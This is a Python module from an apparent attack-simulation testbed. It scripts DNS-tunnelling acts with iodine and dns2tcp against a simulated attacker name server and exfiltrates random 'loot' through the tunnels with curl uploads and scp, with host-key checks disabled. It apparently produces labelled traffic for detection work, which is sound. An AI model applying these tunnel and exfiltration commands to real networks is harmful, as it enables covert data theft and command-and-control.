"""Tunnels through DNS: what goes through them is seen as queries to a name server of the attacker's."""

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, one, pause
from training.testbed.services import sink, tunnel

ENCODINGS = {"TXT": ("Base32", "Base64", "Base128", "Raw"), "CNAME": ("Base32", "Base64"), "A": ("Base32",)}
ENCODINGS |= {"MX": ("Base32", "Base64"), "SRV": ("Base32", "Base64"), "NULL": ("Raw",), "PRIVATE": ("Raw",)}


def use(stage: Stage, base: str) -> None:
    """Do a few things through an open tunnel: fetch, send, or keep it idle for a while."""
    for _ in range(about(stage, "rounds")):
        size = about(stage, "bytes", 1.0)
        words = ["curl", "-s", "-o", "/dev/null", "--max-time", "20"]
        if stage.rng.random() < float(one(stage, "upload")):
            (stage.folder / "loot").write_bytes(stage.rng.randbytes(size))
            stage.run(*words, "-T", str(stage.folder / "loot"), f"{base}/in?n=20", limit_s=25, ok=None)
        else:
            stage.run(*words, f"{base}/out?n={size}", limit_s=25, ok=None)
        pause(stage, "idle")


def iodine(stage: Stage) -> None:
    """Open an IP tunnel with iodine and use it."""
    kind = one(stage, "type")
    device = f"dns{stage.rng.randint(1, 9999)}"
    words = ["iodine", "-f", "-P", tunnel.PASSWORD, "-T", kind, "-d", device, "-u", "nobody"]
    words += ["-O", stage.rng.choice(ENCODINGS[kind])] if kind not in ("NULL", "PRIVATE") else []
    words += ["-L", str(one(stage, "lazy")), "-I", str(one(stage, "interval"))]
    # A size that is given is not tried out first, which takes seconds.
    words += ["-m", str(about(stage, "fragment", 0.2))] if one(stage, "fragment") else []
    words += [] if one(stage, "raw") else ["-r"]
    server = "infra" if one(stage, "relay") else "attacker"
    client = stage.start(*words, stage.world.host(server).v4, tunnel.ZONE, limit_s=110)
    stage.pause(float(one(stage, "handshake")))
    stage.run("ping", "-c", str(stage.rng.randint(2, 5)), "-i", "0.3", "-W", "2", tunnel.INNER, limit_s=10)
    use(stage, f"http://{tunnel.INNER}")
    client.stop()


def dns2tcp(stage: Stage) -> None:
    """Carry a TCP port through DNS with dns2tcp: web requests, or a copy over SSH."""
    resource = str(one(stage, "resource"))
    port = stage.rng.randint(20_000, 29_999)
    words = ["dns2tcpc", "-z", tunnel.SECOND_ZONE, "-k", tunnel.PASSWORD, "-r", resource, "-l", str(port)]
    words += ["-T", str(one(stage, "type")), stage.world.host("attacker").all_v4[1]]
    client = stage.start(*words, limit_s=110)
    stage.pause(1.0)
    if resource == "http":
        use(stage, f"http://127.0.0.1:{port}")
    else:
        (stage.folder / "loot").write_bytes(stage.rng.randbytes(about(stage, "bytes", 1.0)))
        words = ["scp", "-q", "-F", "none", "-i", str(sink.key(stage.world)), "-P", str(port)]
        words += ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]
        stage.run(*words, str(stage.folder / "loot"), f"root@127.0.0.1:{stage.folder}/got", limit_s=60, ok=None)
    client.stop()


USE = {
    "rounds": 4,  # median number of requests through the tunnel
    "bytes": 4_000,  # median size of one (lognormal, sigma 1)
    "upload": 0.4,  # share of requests that send
    "idle": 1.0,  # mean seconds between two
}
KINDS = (
    Kind(
        name="dns-tunnel",
        label="tunnel",
        play=iodine,
        needs={"iodine": "iodine", "ping": "iputils-ping", "curl": "curl"},
        services=("tunnel", "c2", "dns"),
        lasts_s=20,
        limit_s=120,
        settings={
            **USE,
            "type": ["NULL", "TXT"],  # or SRV, MX, CNAME, A, PRIVATE
            "lazy": 1,  # the server keeps a query until it has an answer
            "interval": 2,  # seconds between queries of an idle tunnel
            "fragment": 600,  # bytes of an answer; 0: tried out, which takes ten seconds more
            "raw": False,  # UDP without the form of DNS when the server can be reached
            "relay": False,  # through the name server of the house; what that asks on is not this act's
            "handshake": 3.0,  # seconds until the tunnel is used
        },
    ),
    Kind(
        name="dns2tcp-tunnel",
        label="tunnel",
        play=dns2tcp,
        needs={"dns2tcpc": "dns2tcp", "curl": "curl", "scp": "openssh-client"},
        services=("tunnel", "c2", "sink"),
        lasts_s=12,
        limit_s=120,
        settings={**USE, "resource": ["http", "ssh"], "type": "TXT"},  # or KEY
    ),
)
